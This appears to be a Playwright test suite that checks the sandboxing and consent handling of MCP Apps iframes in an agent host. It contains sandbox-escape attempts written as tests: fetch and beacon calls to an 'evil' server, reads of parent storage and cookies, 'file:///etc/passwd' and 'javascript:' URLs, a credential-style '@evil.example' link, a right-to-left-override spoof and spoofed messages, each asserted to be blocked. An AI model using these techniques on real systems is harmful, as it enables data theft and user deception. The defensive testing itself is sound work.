// MCP Apps: consent, data, questions of an app, and what a hostile app cannot do.

import { AxeBuilder } from "@axe-core/playwright";
import { createServer } from "node:http";

const main = (page) => page.getByRole("main");

/** Starts a session with the demo agent, whose message calls a tool. */
async function startCall(page, tool) {
  await page.getByRole("button", { name: "New session" }).first().click();
  await page.getByRole("combobox", { name: "Agent" }).selectOption({ label: "Demo agent" });
  await page.getByRole("textbox", { name: "Message" }).last().fill(`tool ${tool} {"city":"Rome"}`);
  await page.getByRole("button", { name: "Start session" }).click();
}

async function callTool(page, tool) {
  await startCall(page, tool);
  await main(page).getByText("Tool result:", { exact: false }).first().waitFor();
}

const openButton = (page) => main(page).getByRole("button", { name: "Open app of weather" });
const windowOf = (page) => main(page).getByRole("region", { name: "App of weather" });
const frameOf = (page) => windowOf(page).locator("iframe");

/** Opens the app of a tool; returns its frame once it has its result. */
async function openApp(page, tool = "weather") {
  await callTool(page, tool);
  await openButton(page).click();
  return startedFrame(page);
}

async function startedFrame(page) {
  const handle = await frameOf(page).elementHandle();
  const frame = await handle.contentFrame();
  await frame.waitForFunction(() => received.includes("ui/notifications/tool-result"));
  return frame;
}

/** Checks the page; the content of the frame belongs to the app. */
async function check(page, assert) {
  const { violations } = await new AxeBuilder({ page }).include("main").exclude("iframe").analyze();
  assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`), []);
}

/** Calls a tool of the app's server as the app. */
const call = (frame, name) => frame.evaluate((name) => ask("tools/call", { name, arguments: {} }), name);

/** Drops messages of the browser about what the sandbox has blocked: the page has no part in them. */
function forgetBlocked(page) {
  const blocked = /Content Security Policy|sandboxed|Blocked|ERR_BLOCKED|Unsafe attempt|Refused to|frame-ancestors|allow-modals|allow-popups|allow-forms|allow-top-navigation/;
  page.errors = page.errors.filter((text) => !blocked.test(text));
}

async function useApp(page, assert) {
  const frame = await openApp(page);
  await frame.getByRole("heading", { name: "Rome" }).waitFor();
  await frame.getByText("20 °C").waitFor();
  assert.match(await frameOf(page).getAttribute("title"), /, app of weather$/);
  const host = await frame.evaluate(() => window.host);
  assert.equal(host.protocolVersion, "2026-01-26");
  assert.deepEqual(Object.keys(host.hostCapabilities).sort(), ["logging", "message", "openLinks", "sandbox", "serverResources", "serverTools"]);
  assert.equal(host.hostContext.displayMode, "inline");
  // The frame has the height that the app reports.
  const height = await frame.evaluate(() => document.documentElement.offsetHeight);
  await page.waitForFunction((height) => Math.abs((document.querySelector("iframe")?.clientHeight ?? 0) - height) <= 1, height);
  await check(page, assert);

  // A tool call asks once, with the arguments.
  await frame.getByRole("button", { name: "Refresh" }).click();
  const question = windowOf(page).getByRole("alert");
  await question.getByText('"city": "Rome"').waitFor();
  await check(page, assert);
  await question.getByRole("button", { name: "Deny" }).click();
  await frame.getByText("the user did not allow the call").waitFor();
  await frame.getByRole("button", { name: "Refresh" }).click();
  await question.getByRole("button", { name: "Allow while open" }).click();
  await frame.getByText("31 °C").waitFor();
  await frame.getByRole("button", { name: "Refresh" }).click();
  await frame.waitForFunction(() => received.length > 0 && last >= 4);
  assert.equal(await question.count(), 0);

  // A suggested message becomes a draft, and is not sent.
  const box = main(page).getByRole("textbox", { name: "Message" }).last();
  await box.fill("Hello.");
  await frame.getByRole("button", { name: "Ask the agent" }).click();
  await question.getByText("What should I wear?").waitFor();
  await question.getByRole("button", { name: "Add to message" }).click();
  await frame.getByText("{}", { exact: true }).waitFor();
  assert.equal(await box.inputValue(), "Hello.\n\nWhat should I wear?");
  await box.fill("");

  // A link opens only after a click, in a tab of its own that knows nothing of this one.
  await page.context().route("https://forecast.example/**", (route) => route.fulfill({ contentType: "text/html", body: "<title>Forecast</title>" }));
  await frame.getByRole("button", { name: "Forecast" }).click();
  await question.getByText("https://forecast.example/rome?a=1").waitFor();
  const [tab] = await Promise.all([page.context().waitForEvent("page"), question.getByRole("button", { name: "Open link" }).click()]);
  await tab.waitForLoadState();
  assert.equal(tab.url(), "https://forecast.example/rome?a=1");
  assert.equal(await tab.evaluate(() => window.opener), null);
  await tab.close();

  await windowOf(page).getByRole("button", { name: "Close app" }).click();
  await openButton(page).waitFor();
  assert.equal(await frameOf(page).count(), 0);
  forgetBlocked(page);
  assert.deepEqual(page.errors, []);
}

export const steps = {
  async "an app shows its call, asks before it acts, and ends"({ page, assert }) {
    await useApp(page, assert);
  },

  async "the same on a phone"({ phone, assert }) {
    const device = await phone();
    await useApp(device, assert);
    const small = await device.evaluate(() => [...document.querySelectorAll("main button")].filter((each) => each.checkVisibility() && each.textContent.includes("Open app")).map((each) => each.clientHeight));
    assert.ok(small.every((height) => height >= 42), String(small));
    await device.context().close();
  },

  async "an app knows only its own tools, and may use only those for apps"({ page, assert }) {
    const frame = await openApp(page);
    const code = async (answer) => (await answer).error?.code;
    for (const name of ["private", "none", "agenthost", "weather_refresh", "__proto__"]) {
      assert.equal(await code(call(frame, name)), -32602, name);
    }
    for (const [method, params] of [
      ["resources/list", {}],
      ["sampling/createMessage", {}],
      ["createSession", { channel: "ahp-session:/x" }],
      ["dispatchAction", {}],
      ["toString", {}],
      ["ui/update-model-context", {}],
    ]) {
      assert.equal(await frame.evaluate(([method, params]) => ask(method, params), [method, params]).then(({ error }) => error?.code), -32601, method);
    }
    // The channel of another server in the parameters changes nothing.
    const read = await frame.evaluate(() => ask("resources/read", { uri: "ui://blob/view", channel: "mcp://other" }));
    assert.equal(read.contents[0].uri, "ui://blob/view");
    const missing = await frame.evaluate(() => ask("resources/read", { uri: "file:///etc/passwd" }));
    assert.equal(missing.error.code, -32002);
    const invalid = [
      ["tools/call", { name: 1 }],
      ["tools/call", { name: "refresh", arguments: "x" }],
      ["resources/read", {}],
      ["ui/message", { role: "assistant", content: { type: "text", text: "x" } }],
      ["ui/message", { role: "user", content: { type: "image", data: "x" } }],
      ["ui/message", { role: "user", content: { type: "text", text: "x".repeat(20_001) } }],
      ...["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://bank.example@evil.example/", "blob:x", "//x", 1, `https://a.example/${"x".repeat(3000)}`].map((url) => ["ui/open-link", { url }]),
    ];
    for (const [method, params] of invalid) {
      const answer = await frame.evaluate(([method, params]) => ask(method, params), [method, params]);
      assert.equal(answer.error?.code, -32602, `${method} ${JSON.stringify(params).slice(0, 80)}`);
    }
    // Hidden characters of a question are visible, and only one question is open.
    const answers = frame.evaluate(() => Promise.all([
      ask("ui/message", { role: "user", content: { type: "text", text: "pay\u202e 001$" } }),
      ask("ui/open-link", { url: "https://b.example/" }),
    ]));
    const question = windowOf(page).getByRole("alert");
    await question.getByText("pay\\u{202e} 001$").waitFor();
    await question.getByRole("button", { name: "Dismiss" }).click();
    assert.deepEqual((await answers).map(({ error }) => error.code), [-32000, -32000]);
    assert.deepEqual(page.errors, []);
  },

  async "a hostile app reaches nothing outside its frame"({ browser, newDevice, address, assert }) {
    const page = await newDevice(browser, { name: "attacked" });
    const requests = [];
    const evil = createServer((request, response) => {
      requests.push(request.url);
      response.setHeader("access-control-allow-origin", "*").end("x");
    });
    await new Promise((done) => evil.listen(0, "127.0.0.1", done));
    const away = `http://127.0.0.1:${evil.address().port}`;
    const frame = await openApp(page);
    const before = { url: page.url(), tabs: page.context().pages().length };
    const outcome = await frame.evaluate(async ({ away, address }) => {
      const attempt = async (run) => {
        try {
          return String(await run());
        } catch (error) {
          return error.name;
        }
      };
      const loads = (element, parent = document.body) =>
        new Promise((done) => {
          element.onload = () => done("loaded");
          element.onerror = () => done("blocked");
          parent.append(element);
        });
      const make = (tag, fields) => Object.assign(document.createElement(tag), fields);
      return {
        origin: self.origin,
        parentDocument: await attempt(() => parent.document.title),
        parentLocation: await attempt(() => parent.location.href),
        parentStore: await attempt(() => parent.localStorage),
        frameElement: await attempt(() => window.frameElement),
        cookies: await attempt(() => document.cookie),
        storage: await attempt(() => localStorage.length),
        session: await attempt(() => sessionStorage.length),
        database: await attempt(() => indexedDB.open("x")),
        caches: await attempt(() => caches.keys()),
        worker: await attempt(() => navigator.serviceWorker.register("/sw.js")),
        fetchAway: await attempt(() => fetch(`${away}/fetch`)),
        fetchHost: await attempt(() => fetch(`${address}device`)),
        beacon: await attempt(() => navigator.sendBeacon(`${away}/beacon`, "x")),
        socket: await attempt(() => new Promise((done) => {
          const socket = new WebSocket(address.replace("http", "ws"));
          socket.onopen = () => done("open");
          socket.onerror = () => done("blocked");
        })),
        image: await loads(make("img", { src: `${away}/image` })),
        script: await loads(make("script", { src: `${away}/script` })),
        style: await loads(make("link", { rel: "stylesheet", href: `${away}/style` })),
        ownScript: await loads(make("script", { src: "/app.js" })),
        popup: String(window.open(`${away}/popup`)),
        top: await attempt(() => (top.location = `${away}/top`)),
        form: await attempt(() => {
          const form = make("form", { action: `${away}/form`, method: "post", target: "_top" });
          document.body.append(form);
          form.submit();
        }),
        alert: await attempt(() => alert("x")),
        eval: await attempt(() => setTimeout("window.evaluated = 1", 0)),
      };
    }, { away, address });
    assert.equal(outcome.origin, "null");
    for (const name of ["parentDocument", "parentLocation", "parentStore", "cookies", "storage", "session", "database", "caches"]) {
      assert.match(outcome[name], /SecurityError/, `${name}: ${outcome[name]}`);
    }
    assert.equal(outcome.frameElement, "null");
    assert.match(outcome.worker, /Error/);
    for (const name of ["fetchAway", "fetchHost"]) {
      assert.equal(outcome[name], "TypeError", name);
    }
    for (const name of ["socket", "image", "script", "style", "ownScript"]) {
      assert.match(outcome[name], /blocked|Error/, name);
    }
    assert.equal(outcome.popup, "null");
    // Links do not open anything by themselves.
    await frame.evaluate((away) => {
      for (const target of ["_blank", "_top", "_parent"]) {
        const link = Object.assign(document.createElement("a"), { href: `${away}/link`, target });
        document.body.append(link);
        link.click();
      }
    }, away);
    assert.deepEqual({ url: page.url(), tabs: page.context().pages().length }, before);
    assert.deepEqual(requests, []);
    await page.getByText("Live").first().waitFor();
    evil.close();
    forgetBlocked(page);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  },

  async "an app that leaves its document is closed"({ browser, newDevice, address, assert }) {
    const page = await newDevice(browser, { name: "left" });
    let frame = await openApp(page);
    // A frame with more rights gets no app.
    await frame.evaluate((url) => (location.href = url), `${address}app-frame?connect=evil.example`);
    await windowOf(page).waitFor({ state: "detached" });
    await main(page).getByText("it left its document").waitFor();
    assert.equal(await page.locator("iframe").count(), 0);
    // Other addresses do not load in the frame at all, and neither does the page itself.
    let loaded = 0;
    await page.context().route("https://evil.example/**", (route) => {
      loaded += 1;
      return route.fulfill({ contentType: "text/html", body: "<title>evil</title>" });
    });
    for (const [to, blocked] of [["https://evil.example/?data", /frame-src 'self'/], [address, /frame-ancestors 'none'/]]) {
      await openButton(page).click();
      frame = await startedFrame(page);
      const refusal = page.waitForEvent("console", (message) => blocked.test(message.text()));
      await frame.evaluate((to) => (location.href = to), to);
      await refusal;
      await windowOf(page).getByRole("button", { name: "Close app" }).click();
      await openButton(page).waitFor();
    }
    assert.equal(loaded, 0);
    await page.context().close();
  },

  async "floods, huge and malformed messages do not harm the page"({ page, assert }) {
    let frame = await openApp(page);
    await frame.evaluate(() => {
      const cyclic = {};
      cyclic.self = cyclic;
      const odd = [null, 1, "x", [], new Map([["jsonrpc", "2.0"]]), { jsonrpc: "2.0", method: "ui/open-link", id: 1, params: cyclic }, { jsonrpc: "2.0", id: 1n, method: "ping" }, { jsonrpc: "1.0", id: 1, method: "ping" }, { jsonrpc: "2.0", id: {}, method: "ping" }, { jsonrpc: "2.0", id: 9, method: {} }, { jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: Infinity } }, { jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: "9" } }, { jsonrpc: "2.0", method: "__proto__" }];
      for (const message of odd) parent.postMessage(message, "*");
      addEventListener("message", ({ data }) => (window.answered ??= data.id === 77));
      parent.postMessage({ jsonrpc: "2.0", id: 77, method: "ping", params: { text: "x".repeat(2 << 20) } }, "*");
    });
    // A huge message gets no answer, and a small one after it does.
    assert.deepEqual(await frame.evaluate(() => ask("ping", {})), {});
    assert.equal(await frame.evaluate(() => window.answered), false);
    await frame.evaluate(() => tell("ui/notifications/size-changed", { height: 1e9 }));
    await page.waitForFunction(() => (document.querySelector("iframe")?.clientHeight ?? 0) > 300);
    assert.ok((await frameOf(page).evaluate((element) => element.clientHeight)) <= 720);
    // Many requests at once: the page answers the ones above the limit with an error.
    const open = await frame.evaluate(() => Promise.all(Array.from({ length: 40 }, () => ask("resources/read", { uri: "ui://weather/view" }))));
    assert.ok(open.some(({ error }) => error?.code === -32000) && open.some(({ contents }) => contents));
    await frame.evaluate(() => {
      for (let index = 0; index < 100_000; index += 1) parent.postMessage({ jsonrpc: "2.0", id: index, method: "ping" }, "*");
    });
    await main(page).getByText("it sent too many messages").waitFor();
    assert.equal(await page.locator("iframe").count(), 0);
    assert.equal(await page.getByText("Live").first().isVisible(), true);
    assert.deepEqual(page.errors, []);
  },

  async "only the window of the frame is heard"({ page, assert }) {
    const frame = await openApp(page);
    const link = { jsonrpc: "2.0", id: 1, method: "ui/open-link", params: { url: "https://spoof.example/" } };
    // The page itself, and another sandboxed frame with the same origin `null`.
    await page.evaluate((message) => window.postMessage(message, "*"), link);
    await page.evaluate((message) => window.dispatchEvent(new MessageEvent("message", { data: message, origin: "null" })), link);
    await page.evaluate(async (message) => {
      const other = Object.assign(document.createElement("iframe"), { src: "/app-frame" });
      other.setAttribute("sandbox", "allow-scripts");
      document.body.append(other);
      await new Promise((done) => (other.onload = done));
      window.other = other;
      window.spoof = message;
    }, link);
    const [other] = page.frames().filter((each) => each.url().endsWith("/app-frame"));
    await other.evaluate((message) => parent.postMessage(message, "*"), link);
    // Frames cannot give each other HTML: only the page is heard.
    await other.evaluate(() => parent.frames[0].postMessage({ jsonrpc: "2.0", method: "ui/notifications/tool-input", params: { arguments: { city: "Spoofed" } } }, "*"));
    await frame.evaluate(() => {
      for (let index = 0; index < parent.frames.length; index += 1) {
        parent.frames[index].postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "<p>taken over</p>" } }, "*");
      }
    });
    assert.deepEqual(await frame.evaluate(() => ask("ping", {})), {});
    assert.equal(await windowOf(page).getByRole("alert").count(), 0);
    assert.equal(await other.evaluate(() => document.body.textContent.trim()), "");
    assert.equal(await frame.getByText("Spoofed").count(), 0);
    await page.evaluate(() => window.other.remove());
    forgetBlocked(page);
    assert.deepEqual(page.errors, []);
  },

  async "declared domains are shown first, and reach the policy as plain names"({ page, assert }) {
    await callTool(page, "domains");
    let asked;
    page.on("request", (request) => (asked = request.url().includes("/app-frame") ? request : asked));
    await openButton(page).click();
    const consent = windowOf(page);
    await consent.getByText("https://api.weather.example", { exact: true }).waitFor();
    await consent.getByText("https://*.cdn.example", { exact: true }).waitFor();
    await consent.getByText("4 more addresses that it asks for stay blocked.").waitFor();
    assert.equal(await page.locator("iframe").count(), 0);
    await check(page, assert);
    await consent.getByRole("button", { name: "Cancel" }).click();
    await openButton(page).click();
    await consent.getByRole("button", { name: "Open", exact: true }).click();
    const frame = await startedFrame(page);
    assert.match(asked.url(), /\/app-frame\?connect=api\.weather\.example&resource=\*\.cdn\.example$/);
    const policy = (await (await asked.response()).allHeaders())["content-security-policy"];
    assert.match(policy, /connect-src https:\/\/api\.weather\.example;/);
    let reached = 0;
    await page.context().route("https://api.weather.example/**", (route) => {
      reached += 1;
      return route.fulfill({ body: "sun", headers: { "access-control-allow-origin": "*" } });
    });
    assert.equal(await frame.evaluate(() => fetch("https://api.weather.example/now").then((response) => response.text())), "sun");
    assert.equal(await frame.evaluate(() => fetch("https://a.example/now").catch((error) => error.name)), "TypeError");
    assert.equal(reached, 1);
    forgetBlocked(page);
    assert.deepEqual(page.errors, []);
  },

  async "what is not an app is not shown"({ page, assert }) {
    for (const [tool, reason] of [["plain", /not an app/], ["large", /larger than 4 MB/], ["missing", /there is no resources\/read/]]) {
      await callTool(page, tool);
      await openButton(page).click();
      await main(page).getByText(reason).waitFor();
      assert.equal(await page.locator("iframe").count(), 0);
    }
    const frame = await openApp(page, "blob");
    await frame.getByText("From bytes: ü").waitFor();
    assert.deepEqual(page.errors, []);
  },

  async "an app of a running call gets its result when there is one"({ page, assert }) {
    await startCall(page, "waits");
    await openButton(page).click();
    const frame = await (await frameOf(page).elementHandle()).contentFrame();
    await frame.getByRole("heading", { name: "Rome" }).waitFor();
    assert.deepEqual(await frame.evaluate(() => received.filter((method) => method.includes("tool"))), ["ui/notifications/tool-input"]);
    const released = call(frame, "release");
    await windowOf(page).getByRole("button", { name: "Allow once" }).click();
    await released;
    await frame.getByText("20 °C").waitFor();
    assert.deepEqual(await frame.evaluate(() => received.filter((method) => method.includes("tool"))), ["ui/notifications/tool-input", "ui/notifications/tool-result"]);
    assert.deepEqual(page.errors, []);
  },

  async "an app ends with its chat, its row and the connection"({ page, newSession, startHost, stopHost, assert }) {
    await openApp(page);
    // Its row is scrolled far out of the view.
    await main(page).getByRole("textbox", { name: "Message" }).last().fill("burst 6000");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await frameOf(page).waitFor({ state: "detached" });
    await openApp(page);
    await newSession(page, "echo another session");
    await main(page).getByText("echo another session").first().waitFor();
    await frameOf(page).waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Allow once" }).first().click();
    await openApp(page);
    await stopHost("SIGTERM");
    await main(page).getByText("the connection was lost").waitFor();
    assert.equal(await page.locator("iframe").count(), 0);
    await startHost();
    await page.getByText("Live").first().waitFor();
  },

  async "an app does not take the focus from someone who types"({ page, assert }) {
    const frame = await openApp(page);
    const box = main(page).getByRole("textbox", { name: "Message" }).last();
    await box.click();
    await page.keyboard.type("pass");
    await frame.evaluate(() => {
      addEventListener("keydown", ({ key }) => (window.keys = (window.keys ?? "") + key));
      document.querySelector("button").focus();
    });
    await page.keyboard.type("word");
    assert.equal(await box.inputValue(), "password");
    assert.equal(await frame.evaluate(() => window.keys), undefined);
    await box.fill("");
  },

  async "a device that may only read cannot open apps"({ browser, newDevice, page, assert }) {
    await callTool(page, "weather");
    const hash = await page.evaluate(() => location.hash);
    const reader = await newDevice(browser, { name: "app-reader", scope: "read" });
    await reader.evaluate((hash) => (location.hash = hash), hash);
    await main(reader).getByRole("button", { name: /weather|Weather/ }).first().waitFor();
    assert.equal(await openButton(reader).count(), 0);
    assert.equal(await reader.locator("iframe").count(), 0);
    await reader.context().close();
  },
};
